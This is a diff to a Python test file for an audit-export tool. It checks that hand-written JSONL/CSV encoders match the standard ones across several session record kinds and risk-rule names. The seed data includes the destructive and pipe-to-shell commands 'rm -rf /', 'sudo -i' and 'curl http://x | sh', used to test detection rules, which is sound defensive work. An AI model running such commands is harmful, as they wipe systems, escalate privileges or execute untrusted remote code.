@@ -3,7 +3,9 @@
 audit-export encodes a million records by hand (agent/export_record.py); the
 reference is the plain way, json.dumps(flat_record(...)) and csv.writer over
 the same values, for hostile text: quotes, commas, line breaks, control
-characters, line separators, wide characters, an empty command.
+characters, line separators, wide characters, an empty command. Records of
+every kind (transfers, inputs, actions, unterminated lines) and the risk
+rules' names are in them too.
 """
 
 from __future__ import annotations
@@ -18,6 +20,8 @@ from pathlib import Path
 import pytest
 
 from agent.daemon.store import Store
+from agent.export_record import Stamp
+from agent.highlight import BUILTIN_RULES
 from agent.local_reader import LocalReader
 from agent.reader import load, scan
 from agent.reading import Selection
@@ -59,20 +63,9 @@ def seed(data_dir: Path) -> None:
         status=SessionStatus.TERMINATED,
         ended_at=1_800_000_100.0,
     )
+    texts += ["rm -rf /", "sudo -i", "curl http://x | sh"]  # risky: named
     for n, session in enumerate((make_session("s1", pid=1), odd)):
-        cmds = [
-            Command(session.id, i, iso(1_800_000_000.0 + i), text, i % 7 == 0)
-            if i % 11
-            else Command(
-                session.id,
-                i,
-                iso(1_800_000_000.0 + i),
-                f"upload {text}",
-                kind=Kind.TRANSFER,
-                transfer={"path": text, "size": i, "outcome": 'done, "ok"'},
-            )
-            for i, text in enumerate(texts[n::2], start=1)
-        ]
+        cmds = [command(session.id, i, text) for i, text in enumerate(texts[n::2], 1)]
         store.submit(dataclasses.replace(session, command_count=len(cmds)), cmds)
     store.flush()
     # A command whose session document is in no shard.
@@ -86,11 +79,34 @@ def seed(data_dir: Path) -> None:
     shard.write_text(json.dumps(tables))
 
 
+def command(sid: str, i: int, text: str) -> Command:
+    """A command, or now and then a record of another kind."""
+    at = iso(1_800_000_000.0 + i)
+    if i % 11 == 0:
+        transfer = {"path": text, "size": i, "outcome": 'done, "ok"'}
+        return Command(
+            sid, i, at, f"upload {text}", kind=Kind.TRANSFER, transfer=transfer
+        )
+    if i % 13 == 0:
+        return Command(sid, i, at, text, kind=Kind.INPUT, program=f"read {text}")
+    if i % 17 == 0:
+        return Command(sid, i, at, "", kind=Kind.HIDDEN_INPUT, program="sudo", keys=i)
+    if i % 19 == 0:
+        action = {"rule": text, "action": "warn", "outcome": "done", "detail": None}
+        return Command(sid, i, at, text, kind=Kind.ACTION, action=action)
+    if i % 23 == 0:
+        return Command(sid, i, at, text, typed=f"!{i}", unterminated=True)
+    return Command(sid, i, at, text, i % 7 == 0)
+
+
+STAMP = Stamp('bastion "one", ünï', BUILTIN_RULES)
+
+
 def reference(data_dir: Path, fmt: str) -> str:
     """What the export writes from Command records (the fleet's way)."""
     out = io.StringIO()
     with LocalReader(data_dir) as reader:
-        write_records(reader.commands(Selection()), out, fmt)
+        write_records(reader.commands(Selection()), out, fmt, STAMP)
     return out.getvalue()
 
 
@@ -99,9 +115,11 @@ def test_fast_encoders_match_the_plain_ones(tmp_path: Path, fmt: str) -> None:
     seed(tmp_path)
     store = scan(tmp_path)
     out = io.StringIO()
-    count = write_documents(select(store, Selection()), store.sessions, out, fmt)
+    batches = select(store, Selection())
+    count = write_documents(batches, store.sessions, out, fmt, STAMP)
     assert count == len(load(tmp_path).commands)
     assert out.getvalue() == reference(tmp_path, fmt)
+    assert "rm-root" in out.getvalue() and "pipe-to-shell" in out.getvalue()
 
 
 def test_csv_cells_quote_as_the_csv_module_does() -> None:
@@ -133,8 +151,9 @@ def test_the_streamed_selection_is_the_readers(
     seed(tmp_path)
     store = scan(tmp_path)
     streamed = io.StringIO()
-    write_documents(select(store, selection), store.sessions, streamed, "jsonl")
+    batches = select(store, selection)
+    write_documents(batches, store.sessions, streamed, "jsonl", STAMP)
     plain = io.StringIO()
     with LocalReader(tmp_path) as reader:
-        write_records(reader.commands(selection), plain, "jsonl")
+        write_records(reader.commands(selection), plain, "jsonl", STAMP)
     assert streamed.getvalue() == plain.getvalue()
